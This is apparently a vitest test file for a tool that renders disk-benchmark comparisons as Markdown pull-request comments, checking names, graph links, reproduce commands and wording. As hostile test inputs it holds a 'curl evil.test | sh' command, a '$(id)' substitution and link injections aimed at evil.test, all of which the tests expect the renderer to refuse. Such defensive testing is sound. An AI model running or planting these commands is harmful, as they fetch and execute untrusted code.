/**
 * What the comment points a reader to, rendered from the document's own fields: short names with
 * ids, graph links (only with the pages-url input), the command that reproduces the comparison,
 * and what inconclusive means. The action decides none of it: every figure and name is the file's.
 */
import * as fs from 'fs'
import * as os from 'os'
import * as path from 'path'
import {marked} from 'marked'
import {afterAll, describe, expect, it} from 'vitest'
import {loadComparison} from '../src/comparison'
import {renderMarkdown, value} from '../src/render'
import {editedFixture} from './helpers'

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pointers-test-'))
afterAll(() => fs.rmSync(dir, {recursive: true, force: true}))
const MB = 1024 * 1024
const PAGES = 'https://acme.github.io/diskbench/'
const GRAPH = "matrix.Dd.track_total_s?p-format=%27qcow2%27&p-cache=%27writeback%27&p-interface=%27ide%27"

/** regression.json as diskbench writes it now: names, graphs, the command, the figures of rule 12. */
function pointed(edit: (doc: any) => void = () => {}): string {
  return editedFixture(dir, 'regression.json', (d: any) => {
    d.cells[0].title = 'qcow2 writeback ide · dd 64M'
    d.cells[0].history = {total_s: GRAPH}
    d.cells[0].cell.gate_name = 'qcow2-writeback-ide-dd'
    d.reproduce = ['diskbench', 'gate', '--base', '3f1c2a9d0b7e', '--head', '9e8d7c6b5a4f', '--seed', '42']
    d.summary.sensitivity = []
    edit(d)
  })
}

function render(file: string, pagesUrl?: string): string {
  return renderMarkdown(loadComparison(file, MB), {maxChars: 60000, pagesUrl})
}

describe('the comment points the reader on', () => {
  it('names a cell in a few words, its gate name and id in its fold', () => {
    const text = render(pointed())
    const id = 'qcow2-off-cs64k-2g.writeback-threads-ide.dd-64m-2m-ext4'
    expect(text).toMatch(/\| qcow2 writeback ide · dd 64M \| (<code>total&#95;s<\/code> \| )?[\d.]+&nbsp;s \| [\d.]+&nbsp;s \| \+20\.8%/)
    const fold = text.split('<details><summary>qcow2 writeback ide · dd 64M: 1 figure, 8 rounds, id and reason</summary>')[1]?.split('</details>')[0]
    expect(fold).toContain(`\nqcow2-writeback-ide-dd: <code>${id}</code>\n`)
    expect(fold).toContain('Why: total&#95;s&#58; worse by')
    // the full id is in the fold only
    expect(text.split(`<code>${id}</code>`)).toHaveLength(2)
    // a cell without a name (an older document) is named by its id
    expect(text).toContain('| <code>qcow2-off-cs64k-2g.none-threads-ide.dd-64m-2m-ext4</code> |')
  })

  it('links each metric to its history graph only with the pages-url input', () => {
    const without = render(pointed())
    expect(without).not.toContain('](')
    const text = render(pointed(), PAGES)
    // no column of its own (the table fits a comment's width): the metric's name is the link
    expect(text).toContain('| cell | metric | base | head | change (95% CI) | verdict |')
    const row = text.split('\n').find(l => l.startsWith('| qcow2 writeback ide · dd 64M'))
    expect(row).toContain(`| [<code>total&#95;s</code>](${PAGES}#${GRAPH}) |`)
    // a cell without a graph names its metric without a link
    expect(text).toContain('| <code>qcow2-off-cs64k-2g.none-threads-ide.dd-64m-2m-ext4</code> | <code>total&#95;s</code> |')
    const links = [...marked.parse(text, {gfm: true, async: false}).matchAll(/<a href="([^"]*)"/g)].map(m => m[1])
    // the row, and the figure in the cell's fold
    expect(links).toEqual([`${PAGES}#${GRAPH}`, `${PAGES}#${GRAPH}`])
  })

  it('links nothing a document slips into its graph fragments', () => {
    for (const bad of ['matrix.Dd.track_total_s?p-format=%27x%27)[x](https://evil.test', 'https://evil.test/#x', "matrix.Dd.track_total_s?p-format='qcow2'"]) {
      const text = render(pointed(d => (d.cells[0].history = {total_s: bad})), PAGES)
      expect(text).not.toContain('evil')
      expect(text).not.toContain('](')
    }
  })

  it('shows the command that reproduces it, and no command with anything but plain arguments', () => {
    const text = render(pointed())
    expect(text).toContain('Reproduce it locally:\n\n<pre><code>diskbench gate --base 3f1c2a9d0b7e --head 9e8d7c6b5a4f --seed 42</code></pre>')
    for (const bad of [
      ['diskbench', 'gate', '--build-command', 'make; curl evil.test | sh'],
      ['diskbench', 'gate', '--base', '$(id)'],
      ['sh', '-c', 'x'],
    ]) {
      const refused = render(pointed(d => (d.reproduce = bad)))
      expect(refused).not.toContain('<pre>')
      expect(refused).toContain('The command that reproduces it has characters this comment does not show')
    }
    expect(render(pointed(d => delete d.reproduce))).not.toContain('Reproduce')
  })

  it('says what inconclusive means with the figures of the document', () => {
    // the figures are the document's (summary.screen.inconclusive, as diskbench decided them)
    const file = pointed(d => {
      d.summary.counts.inconclusive = 1
      d.summary.screen.inconclusive = {cells: [0], rounds: 23, command: null, gate: true, could_see_pct: 12.34, slowest: 0, slowest_rounds: 8}
    })
    expect(render(file)).toContain(
      'Inconclusive means these rounds cannot yet tell a change of the minimum effect (5%) from none; ' +
        'a regression of about 12.3% or more would have been caught 4 times in 5. To decide, run more rounds: ' +
        'about 23 per side (qcow2-writeback-ide-dd, has 8), e.g. the command below with <code>--max-rounds 23</code> and the budget for them.',
    )
    const edge = pointed(d => {
      d.summary.counts.inconclusive = 1
      d.summary.screen.inconclusive = {cells: [0], rounds: null, command: null, gate: true, could_see_pct: null, slowest: null, slowest_rounds: null}
    })
    expect(render(edge)).toContain('More rounds would not decide it (its change sits on the minimum effect)')
    expect(render(pointed())).not.toContain('Inconclusive means')
  })

})

describe('the comment of a real comparison', () => {
  // diskbench compare of real TCG records (docs/comparison.md): ide cells throttled in head
  const doc = loadComparison(path.join(__dirname, 'fixtures', 'real-regression.json'), MB)
  const text = renderMarkdown(doc, {maxChars: 60000, pagesUrl: PAGES})

  it('names every cell in words in one row, its id in its fold, and links each metric to its graph', () => {
    const rows = text.split('\n').filter(l => doc.cells.some(c => l.startsWith(`| ${c.title} | `)))
    expect(rows).toHaveLength(doc.cells.length)
    for (const c of doc.cells) {
      expect(c.title).not.toBeNull()
      const fold = text.split(`<details><summary>${c.title}: 4 figures, 8 rounds, id and reason</summary>`)[1]?.split('</details>')[0]
      expect(fold).toContain(`\n<code>${c.cellId}</code>\n`)
    }
    // every row leads with total_s, named once above the table: each change links to its graph
    expect(text).toContain('Each row: <code>total&#95;s</code>, the medians of base and head and the change.')
    for (const row of rows) {
      expect(row).toMatch(/ \| \[[-+][\d.]+%\]\(https:\/\/acme\.github\.io\/diskbench\/#matrix\.Dd\.track_total_s\?p-format=%27(raw|qcow2)%27&p-cache=%27(none|writeback)%27&p-interface=%27(ide|virtio-blk)%27\)<br>/)
    }
  })

  it('gives the command and the inconclusive sentence with the figures diskbench computed', () => {
    expect(text).toContain(`<pre><code>${doc.reproduce.join(' ')}</code></pre>`)
    const open = doc.sensitivity.filter(r => r.verdict === 'inconclusive')
    expect(open).toHaveLength(doc.counts.inconclusive)
    const most = Math.max(...open.map(r => r.roundsToDecide ?? 0))
    const seen = Math.max(...open.map(r => r.couldSeePct ?? 0))
    expect(text).toContain(`a regression of about ${seen.toFixed(1)}% or more would have been caught 4 times in 5`)
    expect(text).toContain(`about ${most} per side`)
    // a comparison of records (no gate): more samples, then compare again
    expect(text).toContain(`record them (<code>--repeat ${most}</code>) and compare again.`)
  })

  it('collapses the unchanged cells with their figures', () => {
    const same = loadComparison(path.join(__dirname, 'fixtures', 'real-unchanged.json'), MB)
    const shown = renderMarkdown(same, {maxChars: 60000})
    const block = shown.split(`<details><summary>${same.cellCount} cells unchanged (their figures)</summary>`)[1] ?? ''
    const rows = block.split('\n').filter(l => same.cells.some(c => l.startsWith(`| ${c.title} | `)))
    expect(rows).toHaveLength(same.cellCount)
    for (const c of same.cells) {
      const m = c.metrics[0]
      const row = rows.find(r => r.startsWith(`| ${c.title} | `))
      const nobreak = (v: number | null | undefined): string => value(v ?? null, 'B').replace(' ', '&nbsp;')
      expect(row).toContain(`| ${nobreak(m?.medianBase)} | ${nobreak(m?.medianHead)} |`)
      expect(block).toContain(`\n<code>${c.cellId}</code>\n`)
    }
  })
})

describe('the comment of a real gate', () => {
  // diskbench gate of a throwaway repository whose head throttles writes in its policy
  const doc = loadComparison(path.join(__dirname, 'fixtures', 'real-gate.json'), MB)

  it('gives the gate command with the resolved commits and the run seed, and the gate names of the cells', () => {
    const text = renderMarkdown(doc, {maxChars: 60000})
    expect(text).toMatch(/<pre><code>diskbench gate --base [0-9a-f]{40} --head [0-9a-f]{40} --spec \S+ --no-canary --seed \d+<\/code><\/pre>/)
    expect(doc.reproduce).toContain(String(doc.budget.find(([k]) => k === 'seed')?.[1]))
    expect(text).toMatch(/\| qcow2 none virtio-blk · dd 64M \| (<code>total&#95;s<\/code> \| )?[\d.]+&nbsp;s \| /)
    expect(text).toContain('\npolicy-dd: <code>qcow2-off-cs64k-2g.none-threads-virtio-blk.dd-64m-2m-ext4</code>\n')
  })
})
